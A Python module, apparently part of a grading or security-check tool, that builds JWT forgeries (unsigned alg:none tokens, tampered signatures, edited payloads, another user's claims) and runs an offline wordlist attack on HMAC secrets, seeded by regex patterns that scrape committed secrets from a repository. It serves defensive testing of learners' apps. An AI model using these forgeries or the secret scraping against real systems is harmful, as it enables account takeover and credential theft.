"""JWT mechanics, apart from the checks that use them: a compact JWS split into what an attacker edits, the
forgeries made from it (unsigned, stripped, edited, re-signed, another user's claims), and the offline attack on
its HMAC secret (the bundled wordlist and the secrets committed in the repository). No HTTP here: the checks in
jwt.py and jwt_surface.py send what this module makes."""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
import os
import re
import time
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from functools import lru_cache
from importlib import resources
from pathlib import Path
from typing import Any

import jwt as pyjwt

_IDENTITY_CLAIMS = ("sub", "user_id", "userId", "uid", "id", "_id", "email", "username", "user", "name")
_TIME_CLAIMS = {"iat", "exp", "nbf", "jti", "auth_time"}
HMAC_ALGS = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}

# ---------------------------------------------------------------- JWT mechanics


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _segment(obj: dict[str, Any]) -> str:
    return b64url(json.dumps(obj, separators=(",", ":")).encode())


@dataclass(frozen=True)
class Jwt:
    """A JWS in compact form, split into what an attacker edits."""

    token: str
    header: dict[str, Any]
    claims: dict[str, Any]

    @property
    def parts(self) -> list[str]:
        return self.token.split(".")

    @property
    def alg(self) -> str:
        return str(self.header.get("alg", ""))

    @property
    def signing_input(self) -> bytes:
        head, payload, _ = self.parts
        return f"{head}.{payload}".encode("ascii")

    @property
    def signature(self) -> bytes:
        return b64url_decode(self.parts[2])


def parse_jwt(token: str | None) -> Jwt | None:
    """The token as a JWT, or None when it is opaque (or an encrypted JWE, which has five parts)."""
    if not token or token.count(".") != 2:
        return None
    try:
        header = pyjwt.get_unverified_header(token)
        claims = json.loads(b64url_decode(token.split(".")[1]))
    except (pyjwt.PyJWTError, ValueError, binascii.Error):
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict):
        return None
    return Jwt(token, header, claims)


def unsigned(claims: dict[str, Any], alg: str = "none") -> str:
    """An `alg: none` token: no signature at all."""
    return f"{_segment({'alg': alg, 'typ': 'JWT'})}.{_segment(claims)}."


def sign(header: dict[str, Any], claims: dict[str, Any], key: bytes) -> str:
    """An HMAC-signed token with exactly this header (its alg picks SHA-256/384/512)."""
    signing_input = f"{_segment(header)}.{_segment(claims)}"
    digest = hmac.new(key, signing_input.encode("ascii"), HMAC_ALGS[str(header["alg"])]).digest()
    return f"{signing_input}.{b64url(digest)}"


def tamper_signature(token: str) -> str:
    """The same header and payload with a signature whose bytes differ. Only full-bit characters are changed:
    editing the last base64url character can leave the decoded bytes as they were."""
    head, payload, sig = token.split(".")
    chars = list(sig)
    for i in (0, len(chars) // 2):
        if i < len(chars):
            chars[i] = "A" if chars[i] != "A" else "B"
    return f"{head}.{payload}.{''.join(chars)}"


# ---------------------------------------------------------------- the secret wordlist and committed secrets


@lru_cache(maxsize=1)
def wordlist() -> tuple[str, ...]:
    """The bundled candidates (data/jwt_secrets.txt), most likely first."""
    text = resources.files("portfolio_grader").joinpath("data/jwt_secrets.txt").read_text(encoding="utf-8")
    return tuple(line for line in text.splitlines() if line and not line.startswith("#!comment"))


_SKIP_DIRS = {".git", "node_modules", ".venv", "venv", "env", "__pycache__", "dist", "build", ".next", "coverage",
              ".tox", ".mypy_cache", ".pytest_cache", "site-packages", "vendor", "target"}
_CODE_SUFFIXES = (".py", ".js", ".ts", ".mjs", ".cjs", ".jsx", ".tsx")
_SECRETISH = r"[\w.-]*(?:secret|jwt|signing|token|key)[\w.-]*"
# SECRET_KEY = "x", jwtSecret: 'x', "secret": "x", JWT_SECRET = process.env.X || "x"
_QUOTED = re.compile(
    rf"(?i)(?P<key>{_SECRETISH})[\"']?\s*[:=]\s*(?:[\w.\[\]\"']+\s*(?:\|\||\?\?|\bor\b)\s*)?"
    r"(?P<q>[\"'`])(?P<val>[^\"'`\n]{1,200})(?P=q)")
# .env, docker-compose environment lists, YAML: JWT_SECRET=x, - JWT_SECRET=x, jwt_secret: x
_BARE = re.compile(
    rf"(?im)^\s*(?:-\s*|export\s+)?(?P<key>{_SECRETISH})\s*[:=]\s*(?P<val>[^\s\"'`#]{{1,200}})\s*(?:#.*)?$")
# process.env.X || "x", os.getenv("X", "x"), os.environ.get("X", "x"), config("X", default="x")
_DEFAULTED = re.compile(
    r"(?:process\.env\.\w+\s*(?:\|\||\?\?)\s*|(?:getenv|environ\.get|config|env)\(\s*[\"']\w+[\"']\s*,\s*"
    r"(?:default\s*=\s*)?)(?P<q>[\"'`])(?P<val>[^\"'`\n]{1,200})(?P=q)")
# jwt.sign(payload, "x"), jwt.encode(claims, "x", ...), jwt.verify(token, 'x')
_LITERAL_KEY = re.compile(
    r"\bjwt\.(?:sign|verify|encode|decode)\(\s*[^,()]+(?:\([^()]*\))?\s*,\s*"
    r"(?P<q>[\"'`])(?P<val>[^\"'`\n]{1,200})(?P=q)")
_NOT_A_VALUE = re.compile(r"^(?:\$\{.*\}|\$\w+|process\.env.*|os\.environ.*|settings\..*|config\..*|none|null|"
                          r"undefined|true|false|required|string)$", re.I)


def _wanted(path: Path) -> bool:
    name = path.name.lower()
    return (name == ".env" or name.startswith(".env.") or name.startswith("config.") or name == "settings.py"
            or (name.startswith("docker-compose") and name.endswith((".yml", ".yaml")))
            or (name.startswith("application") and name.endswith((".properties", ".yml", ".yaml")))
            or name.endswith(_CODE_SUFFIXES))


def committed_secrets(root: Path | None, max_files: int = 400, max_bytes: int = 200_000,
                      max_candidates: int = 500) -> list[tuple[str, str]]:
    """(value, "file:line") for every string the repo assigns to a secret-looking name, passes as a default to an
    environment lookup, or hands to jwt.sign/encode/verify — the secrets learners commit by accident."""
    if root is None or not Path(root).is_dir():
        return []
    root = Path(root)
    found: dict[str, str] = {}
    scanned = 0
    for folder, dirs, files in os.walk(root):
        dirs[:] = sorted(d for d in dirs if d not in _SKIP_DIRS and not (d.startswith(".") and d != ".config"))
        for name in sorted(files):
            path = Path(folder, name)
            if not _wanted(path) or path.is_symlink():
                continue
            try:
                if path.stat().st_size > max_bytes:
                    continue
                text = path.read_text(encoding="utf-8", errors="replace")
            except OSError:
                continue
            scanned += 1
            rel = path.relative_to(root).as_posix()
            for number, line in enumerate(text.splitlines(), 1):
                if len(line) > 1000:
                    continue
                for pattern in (_QUOTED, _BARE, _DEFAULTED, _LITERAL_KEY):
                    for match in pattern.finditer(line):
                        value = match.group("val").strip()
                        if value and not _NOT_A_VALUE.match(value) and value not in found:
                            found[value] = f"{rel}:{number}"
                if len(found) >= max_candidates:
                    return list(found.items())
            if scanned >= max_files:
                return list(found.items())
    return list(found.items())


@dataclass(frozen=True)
class Crack:
    """The outcome of the offline attack on the token's HMAC secret (`key` None: not guessed)."""

    alg: str
    tried: int
    from_wordlist: int
    from_repo: int
    seconds: float
    key: bytes | None = None
    source: str | None = None  # "the bundled wordlist" or "file:line"

    @property
    def shown(self) -> str:
        """The secret masked for the report: its first characters, never the whole of it."""
        text = (self.key or b"").decode("utf-8", errors="replace")
        return (text[:2] if len(text) >= 6 else text[:1]) + "***"


def crack(token: Jwt, repo_candidates: Iterable[tuple[str, str]] = ()) -> Crack:
    """Compare the token's HMAC with every candidate: committed secrets first (and their base64 decoding,
    for stacks that decode the configured secret), then the bundled wordlist."""
    digest = HMAC_ALGS[token.alg]
    signing_input, signature = token.signing_input, token.signature
    started = time.perf_counter()
    seen: set[bytes] = set()
    tried = from_repo = 0

    def candidates() -> Iterator[tuple[bytes, str]]:
        for value, where in repo_candidates:
            yield value.encode(), where
            if len(value) >= 16 and len(value) % 4 == 0 and re.fullmatch(r"[A-Za-z0-9+/]+=*", value):
                try:
                    yield base64.b64decode(value, validate=True), f"{where} (base64-decoded)"
                except binascii.Error:
                    pass
        for word in wordlist():
            yield word.encode(), "the bundled wordlist of common and tutorial secrets"

    for key, where in candidates():
        if key in seen:
            continue
        seen.add(key)
        tried += 1
        from_repo += not where.startswith("the bundled")
        if hmac.new(key, signing_input, digest).digest() == signature:
            return Crack(token.alg, tried, tried - from_repo, from_repo, time.perf_counter() - started, key, where)
    return Crack(token.alg, tried, tried - from_repo, from_repo, time.perf_counter() - started)


def tampered_claims(token: Jwt, other: Jwt | None) -> tuple[dict[str, Any], list[str]]:
    """A's claims with the identity claims replaced: B's values when B's token is known, else a neighbour id."""
    claims = dict(token.claims)
    changed = []
    if other is not None:
        for key, value in other.claims.items():
            if key not in _TIME_CLAIMS and key in claims and claims[key] != value:
                claims[key] = value
                changed.append(key)
        if changed:
            return claims, changed
    for key in _IDENTITY_CLAIMS:
        value = claims.get(key)
        if isinstance(value, int) and not isinstance(value, bool):
            claims[key] = value + 1
        elif isinstance(value, str) and value.isdigit():
            claims[key] = str(int(value) + 1)
        elif isinstance(value, str) and value:
            claims[key] = value + "x"
        else:
            continue
        return claims, [key]
    claims["sub"] = "1"
    return claims, ["sub"]


def edited_payload(token: Jwt, claims: dict[str, Any]) -> str:
    """The token's header and original signature around a payload the attacker wrote."""
    head, _, signature = token.parts
    return f"{head}.{_segment(claims)}.{signature}"
